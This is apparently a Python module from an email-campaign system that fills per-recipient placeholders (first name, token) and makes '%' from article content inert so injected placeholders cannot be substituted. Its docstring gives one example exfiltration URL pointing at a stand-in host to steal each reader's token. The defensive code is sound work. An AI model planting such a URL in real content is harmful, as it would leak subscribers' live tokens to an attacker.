"""Per-recipient placeholders: the only part of a compiled campaign that differs per recipient.

The campaign is rendered once with the placeholders left in it; SendGrid (``substitutions``)
or, locally, :func:`personalise` fills them in. The values never pass through Jinja or MJML.

Placeholders come only from the templates. Article content (title, body, links, the subject
and preheader made from it) may contain ``%%token%%`` too — a feed item, a pasted page — and
SendGrid replaces every occurrence of a key in the subject and content, wherever it came from:
``https://evil.example/steal?t=%%token%%`` would carry each reader's live token away. So every
``%`` from content is made *inert* before it reaches the compiled message (:func:`inert_html`,
:func:`inert_text`), and only values the render room vouches for (:class:`LiveText`: the
template's placeholder variables, tracked URLs) keep theirs.
"""

from __future__ import annotations

import html
import re
from collections.abc import Mapping
from functools import lru_cache

FIRST_NAME = "%%first_name%%"
FIRST_NAME_HTML = "%%first_name_html%%"
TOKEN = "%%token%%"

#: Every placeholder a compiled campaign may contain (see docs/architecture.md).
PLACEHOLDERS: tuple[str, ...] = (FIRST_NAME, FIRST_NAME_HTML, TOKEN)

FALLBACK_FIRST_NAME = "there"

# Longest first, so a placeholder that is a prefix of another can never win by accident.
_PATTERN = re.compile("|".join(re.escape(p) for p in sorted(PLACEHOLDERS, key=len, reverse=True)))


#: Follows every ``%`` from content in the text part and the subject: U+200B ZERO WIDTH SPACE.
#: Invisible to the reader (so "50%" still reads "50%"), and it breaks every ``%%`` pair, so no
#: SendGrid key and no :data:`PLACEHOLDERS` entry can match. Chosen over U+2060 WORD JOINER
#: because far more fonts and mail clients know it (no "tofu" box), and a line may break after
#: a "%" anyway.
INERT_MARK = "\u200b"
_BARE_PERCENT = re.compile("%(?!" + INERT_MARK + ")")


class LiveText(str):
    """Text the render room vouches for: its placeholders are meant to be substituted.

    The template's own placeholder variables (``first_name``, ``unsubscribe_url`` ...), the
    URLs ``track()`` returns, and fragments whose content part was already made inert. Every
    other value a template prints is content and is made inert (see jinja_env's finalize)."""

    __slots__ = ()


def inert_text(text: str) -> str:
    """``text`` for the text part or a header: each ``%`` followed by :data:`INERT_MARK`.

    Idempotent (a ``%`` already followed by the mark is left alone), so a value can pass
    through more than one filter safely. Every ``%``, not only ``%%``: content ending in "%"
    next to template text starting with "%token%%" must not join into a placeholder either.
    """
    return _BARE_PERCENT.sub("%" + INERT_MARK, str(text))


def inert_html(text: str, *, quote: bool = True) -> str:
    """``text`` as HTML, escaped, with each ``%`` written ``&#37;``.

    A browser shows ``&#37;`` as "%" (in text and in attribute values alike, so a content URL
    with ``%20`` still works), but the bytes of the message hold no ``%`` from content at all:
    nothing SendGrid or :func:`personalise` could match.
    """
    return html.escape(str(text), quote=quote).replace("%", "&#37;")


def recipient_values(first_name: str | None, token: str) -> dict[str, str]:
    """The substitutions for one recipient: ``{placeholder: value}``.

    A missing or blank first name becomes the friendly fallback ("Hi there,"). The HTML part
    gets the name escaped, because a name is subscriber input and the HTML is not re-escaped
    after substitution.
    """
    name, name_html = _first_name_forms(first_name)
    return {FIRST_NAME: name, FIRST_NAME_HTML: name_html, TOKEN: token}


@lru_cache(maxsize=8192)
def _first_name_forms(first_name: str | None) -> tuple[str, str]:
    """The name as text and as HTML. Cached: a list of a million holds a few thousand first
    names, and this runs once per recipient of every send."""
    name = " ".join((first_name or "").split()) or FALLBACK_FIRST_NAME
    return name, html.escape(name, quote=True)


def personalise(content: str, values: Mapping[str, str]) -> str:
    """Replace the placeholders in ``content`` with ``values`` in one pass.

    Single pass on purpose: a value that itself looks like a placeholder (a subscriber called
    "%%token%%") is inserted literally, never substituted again. Placeholders without a value
    in ``values`` are left as they are.
    """

    def _value(match: re.Match[str]) -> str:
        return values.get(match.group(0), match.group(0))

    return _PATTERN.sub(_value, content)
